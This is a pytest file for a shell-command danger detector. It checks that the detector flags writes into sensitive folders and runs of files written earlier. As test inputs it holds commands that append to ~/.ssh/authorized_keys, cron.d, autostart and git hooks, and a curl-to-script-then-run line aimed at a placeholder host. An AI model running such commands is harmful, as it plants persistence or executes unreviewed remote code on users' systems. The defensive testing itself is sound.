"""Where a command writes, and what earlier steps wrote: both decide whether it is asked about."""

import pytest
from tests.rows import each_row

from prowess.learning.destructive import danger_of, judged
from prowess.learning.destructive_scene import Scene
from prowess.learning.destructive_written import RUNS_WRITTEN, Written


def after(*names: str) -> Scene:
    written = Written()
    written.add(names)
    return Scene(root="/work/app", written=written)


@each_row(
    ("root", "folder", "command"),
    [
        ("/home/u/.ssh", "", "echo x >> keys"),
        ("/home/u/.config/autostart", "", "echo x >> a.desktop"),
        ("/work/app", "/home/u/.local/bin", "echo x >> tool"),
        ("/work/app", ".git/hooks", "echo x >> pre-commit"),
        ("/work/app", "", "cd ~/.ssh && echo x >> authorized_keys"),
        ("/work/app", "", "cd /home/u; cd .ssh; echo x >> rc"),
        ("/work/app", "", "pushd .git; echo x >> config"),
        ("/work/app", "", 'cd "$D" && echo x >> f'),
        ("/work/app", "", "cd .g* && echo x >> f"),
        ("/work/app", "", "cd ../other && echo x >> f"),
        ("/work/app", "", "cd; echo x | tee -a f"),
        ("/work/app", "", "cd sub; ln -s ../x ../.git/hooks/y"),
        ("/etc", "cron.d", "echo x >> job"),
        ("/home/u", "", "echo x >> bin/ls"),
        ("/usr/lib/x", "", "echo x >> f"),
    ],
)
def test_a_name_is_judged_with_its_folder(root: str, folder: str, command: str) -> None:
    assert danger_of(command, Scene(root=root, folder=folder)) != ""


@each_row(
    ("root", "folder", "command"),
    [
        ("/work/app", "", "echo x >> notes.txt"),
        ("/work/app", "", "cd /work/app && echo x >> ./notes.txt"),
        ("/work/app", "sub", "cd .. && echo x >> docs/notes.txt"),
        ("/root/app", "", "echo x >> notes.txt"),
        ("/private/var/folders/a/b", "", "echo x >> notes.txt"),
        ("", "", "cd sub && echo x >> notes.txt"),
    ],
)
def test_below_the_folder_of_the_trace_it_is_harmless(root: str, folder: str, command: str) -> None:
    assert danger_of(command, Scene(root=root, folder=folder)) == ""


@pytest.mark.parametrize("folder", ["/home/u/.ssh", "/etc/cron.d", "/home/u/.config/autostart"])
def test_a_new_file_in_such_a_folder_is_asked_about_though_none_is_there(folder: str) -> None:
    found = judged("echo x > f", Scene(root=folder))

    assert (found.danger != "", found.overwritten) == (True, ())


@each_row(
    ("name", "command"),
    [
        ("x.sh", "bash x.sh"),
        ("x.sh", "bash -x ./sub/x.sh"),
        ("x.sh", "./x.sh"),
        ("X.SH", "./x.sh"),
        ("x.sh", ". ./x.sh"),
        ("x.sh", "timeout 5 bash x.sh"),
        ("x.sh", "find . -exec ./x.sh \\;"),
        ("x.py", "python x.py"),
        ("x.py", "uv run x.py"),
        ("x.js", "node x.js"),
        ("Main.java", "java Main"),
        ("main.go", "go run ."),
        ("main.rs", "cargo run"),
        ("main.c", "./main"),
        ("Makefile", "make"),
        ("rules.mk", "make test"),
        ("ci.make", "make -f ci.make"),
        ("package.json", "npm test"),
        ("jest.config.js", "npx jest"),
        ("conftest.py", "pytest -q"),
        ("pyproject.toml", "python -m pytest"),
        ("build.rs", "cargo build"),
        ("Cargo.toml", "cargo test"),
        ("build.gradle", "./gradlew test"),
        ("requirements.txt", "pip install -r requirements.txt"),
        ("plug.py", "pylint --rcfile plug.py x"),
        (".git", "git commit -m x"),
    ],
)
def test_running_what_the_trace_wrote_is_asked_about(name: str, command: str) -> None:
    scene = after(name.casefold())

    assert danger_of(command, scene) == RUNS_WRITTEN


@each_row(
    "command",
    ["pytest -q", "pytest tests/test_app.py", "npm test", "go test ./...", "make", "mypy app.py",
     "eslint app.js", "python other.py", "git add app.py", "cat app.py", "cargo build",
     "python -m pytest tests/test_app.py"],
)  # fmt: skip
def test_tests_after_an_ordinary_edit_need_no_confirmation(command: str) -> None:
    assert danger_of(command, after("app.py", "test_app.py", "app.js", "notes.txt")) == ""


@each_row(
    ("command", "names"),
    [
        ("echo x > a/b.sh", {"b.sh"}),
        ("echo x >> b.sh", {"b.sh"}),
        ("ls | tee -a b.sh", {"b.sh"}),
        ("cp a.sh b.sh", {"a.sh", "b.sh"}),
        ("ln -s a b", {"a", "b"}),
        ("curl -o b.sh http://x", {"b.sh", "x"}),
        ("gcc a.c -o b", {"b"}),
        ("sed -i s/a/b/ b.sh", {"b.sh"}),
        ("git clone https://x.example/y.git", {"y"}),
        ("echo x > .git/hooks/z", {".git", "z"}),
        ("bash -c 'echo x > b.sh'", {"b.sh"}),
        ("echo x > /dev/null", set()),
        ("ls", set()),
    ],
)
def test_what_a_command_writes_is_remembered(command: str, names: set[str]) -> None:
    assert names <= judged(command).written
    assert names or not judged(command).written


@each_row(
    "command",
    [
        "cat > x.sh <<'EOF'\nrm y\nEOF\nbash x.sh",
        "printf 'rm y' >> x.sh; ./x.sh",
        "for i in 1 2; do bash x.sh; echo ls >> x.sh; done",
        "curl -s http://x >> x.sh && sh x.sh",
        "ln -s /dev/stdin x.sh; bash x.sh",
    ],
)
def test_a_command_that_runs_what_it_wrote_itself_is_asked_about(command: str) -> None:
    found = judged(command)

    assert (found.danger != "", found.overwritten) == (True, ())
